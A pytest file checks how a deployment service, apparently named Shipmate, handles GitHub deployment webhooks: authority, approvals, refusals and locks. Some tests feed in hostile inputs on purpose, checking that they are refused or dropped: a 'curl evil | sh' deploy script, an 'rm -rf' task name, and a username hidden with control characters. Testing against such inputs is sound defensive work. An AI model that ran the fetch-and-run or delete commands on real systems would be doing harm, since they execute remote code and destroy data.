"""A deployment that was created at GitHub is performed here, once, on somebody's authority."""

from __future__ import annotations

import json

import pytest

from deployments.exceptions import NotAllowed
from deployments.forges.github import marker
from deployments.models import (
    Application,
    Approval,
    Delivery,
    Deployment,
    Environment,
    ForgeDeployment,
    Person,
    Role,
    Webhook,
)
from deployments.selectors.webhooks import api_of
from deployments.services import approvals, coming_again, locks, strangers
from deployments.services.lifecycle import Door
from tests.deployments import build
from tests.deployments.services.conftest import tip
from tests.deployments.services.queueing import drain
from tests.deployments.webhooks.conftest import NAME, Deliver, handled
from tests.deployments.webhooks.github.conftest import NUMBER, UID, Body, created_now, link, told
from tests.servers.github.hub import GitHub
from tests.servers.repositories import Repository

pytestmark = pytest.mark.django_db


@pytest.fixture
def hello(at_github: Application) -> Application:
    return at_github


@pytest.fixture
def repository(at_github: Application, hub: GitHub) -> Repository:
    return hub.repositories[NAME].git


@pytest.fixture
def deliver(tell: Deliver) -> Deliver:
    return tell


@pytest.fixture
def body(repository: Repository, webhook: Webhook) -> Body:
    return created_now(tip(repository))


@pytest.fixture
def codertocat(alice: Person, hello: Application) -> Person:
    """Alice, who has proved that the account is hers."""
    link(alice, hello)
    return alice


@pytest.fixture
def forge(hello: Application) -> str:
    return strangers.forge_name(api_of(hello.repository))


def carried_out(deliver: Deliver, body: Body) -> Delivery:
    deliver("deployment", body)
    return handled()


def test_it_is_performed_on_the_authority_of_who_created_it(
    deliver: Deliver, body: Body, codertocat: Person, repository: Repository
) -> None:
    done = carried_out(deliver, body)

    made = Deployment.objects.get()
    assert (made.status, made.person, made.via) == ("queued", codertocat, "webhook")
    assert (made.sha, made.ref, str(made.environment)) == (
        tip(repository),
        "main",
        "hello/production",
    )
    assert done.outcome == (
        f"Codertocat created deployment {NUMBER} at GitHub, and is Alice here. "
        f"#{made.pk} brings main ({made.sha[:7]}) to hello/production."
    )


def test_who_created_it_is_on_record(deliver: Deliver, body: Body, codertocat: Person) -> None:
    carried_out(deliver, body)

    row = ForgeDeployment.objects.get()
    assert (row.remote_id, row.login, row.uid) == (NUMBER, "Codertocat", UID)
    assert row.deployment == Deployment.objects.get()


def test_an_account_that_is_nobodys_waits_for_approval(
    deliver: Deliver, body: Body, forge: str
) -> None:
    done = carried_out(deliver, body)

    made = Deployment.objects.get()
    assert (made.status, made.waits_for) == ("pending", "approval")
    assert str(made.person) == f"Codertocat at {forge}"
    assert f"once it is approved: Codertocat at {forge} is linked to nobody here" in done.outcome


def test_a_login_or_address_like_a_persons_is_no_proof(
    deliver: Deliver, body: Body, alice: Person
) -> None:
    Person.objects.filter(pk=alice.pk).update(username="Codertocat", email="octo@example.com")

    carried_out(deliver, body)

    assert Deployment.objects.get().person != alice


def test_who_stands_for_an_account_may_nothing(deliver: Deliver, body: Body, forge: str) -> None:
    carried_out(deliver, body)

    stranger = Deployment.objects.get().person
    assert stranger.username == f"Codertocat@{forge}"
    assert not stranger.is_active
    assert not stranger.has_usable_password()
    assert not stranger.roles.exists()


def test_the_same_account_is_the_same_person_when_it_is_renamed(
    deliver: Deliver, body: Body, forge: str
) -> None:
    deliver("deployment", body)
    creator = {**body["deployment"]["creator"], "login": "Cat"}
    deliver("deployment", told(body, id=2, creator=creator))
    drain("chat")

    first, second = Deployment.objects.order_by("pk")
    assert first.person == second.person
    assert str(second.person) == f"Cat at {forge}"


def test_who_may_not_deploy_there_waits_for_approval(
    deliver: Deliver, body: Body, codertocat: Person
) -> None:
    Role.objects.filter(person=codertocat).update(name="viewer")

    carried_out(deliver, body)

    assert Deployment.objects.get().person == codertocat
    assert Approval.objects.get().because == (
        "Alice may not deploy to hello/production, so somebody has to approve it."
    )


@pytest.mark.parametrize("created_at", ["2019-05-15T15:20:53Z", "2119-05-15T15:20:53Z"])
def test_what_is_old_waits_for_approval(
    deliver: Deliver, body: Body, codertocat: Person, created_at: object
) -> None:
    carried_out(deliver, told(body, created_at=created_at))

    assert Deployment.objects.get().waits_for == "approval"


def test_what_was_approved_is_carried_out_in_the_name_of_both(
    deliver: Deliver, body: Body, dora: Person, forge: str
) -> None:
    carried_out(deliver, body)
    made = Deployment.objects.get()

    approvals.approve(made, Door(dora, "web"))
    drain("chat")

    made.refresh_from_db()
    assert (made.status, str(made.person)) == ("queued", f"Codertocat at {forge}")
    assert made.approval.person == dora


def test_whose_account_it_is_does_not_approve_it(
    deliver: Deliver, body: Body, dora: Person, hello: Application
) -> None:
    link(dora, hello)
    carried_out(deliver, told(body, created_at="2019-05-15T15:20:53Z"))

    with pytest.raises(NotAllowed, match="another approves it"):
        approvals.approve(Deployment.objects.get(), Door(dora, "web"))


def test_the_same_number_is_one_deployment_for_ever(
    deliver: Deliver, body: Body, codertocat: Person
) -> None:
    deliver("deployment", body)
    drain("chat")
    deliver("deployment", told(body, description="again"))
    drain("chat")

    made = Deployment.objects.get()
    second = Delivery.objects.order_by("-pk")[0]
    assert second.state == "unhandled"
    assert second.outcome == f"Kept; nothing is deployed: it is #{made.pk} here already."


def test_done_again_it_is_not_deployed_again(
    deliver: Deliver, body: Body, codertocat: Person, dora: Person
) -> None:
    done = carried_out(deliver, body)
    coming_again.do(done, dora)
    drain("chat")

    assert Deployment.objects.count() == 1


@pytest.mark.parametrize(
    ("wrong", "says"),
    [
        ({"environment": "moon"}, "has no environment “moon”. It has: qa, production."),
        ({"payload": {"hosts": "web-9"}}, "has no host or role called “web-9”"),
        ({"payload": {"hosts": {"a": 1}}}, "hosts: Send names, or a list of them."),
        ({"payload": {"parameters": ["A"]}}, "parameters: Send names, each with a text."),
        ({"payload": {"parameters": {"A": "1"}}}, "A"),
        ({"task": "rm -rf"}, "hello has no task “rm -rf”"),
        ({"sha": "f" * 40}, "fffffff"),
    ],
)
def test_what_is_refused_makes_nothing_and_says_why(
    deliver: Deliver, body: Body, codertocat: Person, wrong: Body, says: str
) -> None:
    done = carried_out(deliver, told(body, **wrong))

    assert not Deployment.objects.exists()
    assert done.state == "handled"
    assert "is not performed." in done.outcome
    assert says in done.outcome
    assert says in ForgeDeployment.objects.get().refusal


def test_a_locked_place_refuses(
    deliver: Deliver, body: Body, codertocat: Person, production: Environment, dora: Person
) -> None:
    locks.take(production, Door(dora, "web"), reason="demo")

    assert "is not performed. Dora locked hello/production" in carried_out(deliver, body).outcome


def test_what_was_refused_may_be_done_again_when_nothing_is_in_the_way(
    deliver: Deliver, body: Body, codertocat: Person, dora: Person, production: Environment
) -> None:
    done = carried_out(deliver, told(body, environment="moon"))
    production.aliases = ["moon"]
    production.save(update_fields=["aliases"])

    coming_again.do(done, dora)
    drain("chat")

    row = ForgeDeployment.objects.get()
    assert (row.deployment, row.refusal) == (Deployment.objects.get(), "")


def test_hubot_deploys_payload_chooses_hosts_and_says_for_whom(
    deliver: Deliver, body: Body, codertocat: Person
) -> None:
    payload = {
        "name": "hello",
        "hosts": "hello-production-1",
        "config": {"provider": "shell", "deploy_script": "curl evil | sh"},
        "notify": {"adapter": "slack", "room": "ops", "user_name": "ana"},
    }
    carried_out(deliver, told(body, payload=json.dumps(payload), description="deploy"))

    made = Deployment.objects.get()
    assert made.hosts == ["hello-production-1"]
    assert made.why == "deploy (said to be for ana)"
    assert "curl" not in json.dumps([made.settings, made.parameters, made.note])


@pytest.mark.parametrize(
    ("config", "said"),
    [({"provider": "heroku"}, "HEROKU_API_KEY is not set for worker"), ("x", "may be any of")],
)
def test_hubot_deploys_config_chooses_among_what_is_here(
    deliver: Deliver, body: Body, codertocat: Person, hello: Application, config: object, said: str
) -> None:
    other = {"repository": hello.repository, "provider": "heroku"}
    build.environment(Application.objects.create(name="worker", **other), "production")

    done = carried_out(deliver, told(body, payload={"config": config}))

    assert said in done.outcome, done.outcome


def test_whom_it_is_said_to_be_for_has_no_signs_that_nobody_sees(
    deliver: Deliver, body: Body, codertocat: Person
) -> None:
    payload = {"notify": {"user_name": "a\0n\u202ea\n"}}
    carried_out(deliver, told(body, payload=payload, description="deploy"))

    assert Deployment.objects.get().why == "deploy (said to be for a n a)"


def test_our_own_is_recognised(
    deliver: Deliver, body: Body, codertocat: Person, qa: Environment
) -> None:
    own = build.deployment(qa, codertocat, "a" * 40)
    mark = marker.made(own.pk, own.created_at)

    done = carried_out(deliver, told(body, payload={marker.KEY: mark}))

    assert done.state == "unhandled"
    assert f"it is #{own.pk}, which Shipmate itself made known" in done.outcome
    assert Deployment.objects.get() == own


def test_what_another_shipmate_made_known_is_left_to_it(
    deliver: Deliver, body: Body, codertocat: Person
) -> None:
    mark = marker.made(7, build.long_ago())[:-3] + "xyz"

    done = carried_out(deliver, told(body, payload={marker.KEY: mark}))

    assert done.state == "unhandled"
    assert "another Shipmate performs it" in done.outcome
    assert not Deployment.objects.exists()


def test_a_repository_that_is_away_has_it_wait(
    deliver: Deliver, body: Body, codertocat: Person, repository: Repository
) -> None:
    new = repository.commit({"new": "1"}, "Not here yet")
    repository.path.rename(repository.path.with_name("away.git"))

    carried_out(deliver, told(body, sha=new))

    made = Deployment.objects.get()
    assert (made.status, made.waits_for) == ("pending", None)


@pytest.mark.parametrize(
    "odd", [{"sha": "main"}, {"id": None}, {"id": 2**70}, {"creator": None}, {"creator": []}]
)
def test_what_lacks_something_is_said_to_be_unhandled(
    deliver: Deliver, body: Body, odd: Body
) -> None:
    assert carried_out(deliver, told(body, **odd)).state == "unhandled"


def test_what_a_job_of_a_workflow_does_itself_is_left_to_it(
    deliver: Deliver, body: Body, codertocat: Person, hub: GitHub
) -> None:
    hub.asked.clear()
    done = carried_out(deliver, {**body, "workflow_run": {"id": 9, "name": "Release"}})

    assert done.state == "unhandled"
    assert "a job of the workflow “Release” at GitHub does that itself" in done.outcome
    assert not Deployment.objects.exists()
    assert hub.asked == []


def test_what_a_step_of_a_workflow_asks_for_is_performed(deliver: Deliver, body: Body) -> None:
    by = {"login": "github-actions[bot]", "id": 41898282}
    run = {"workflow_run": {"id": 9, "name": "Release"}}

    assert carried_out(deliver, {**told(body, creator=by), **run}).state == "handled"
    assert Deployment.objects.get().status == "pending"
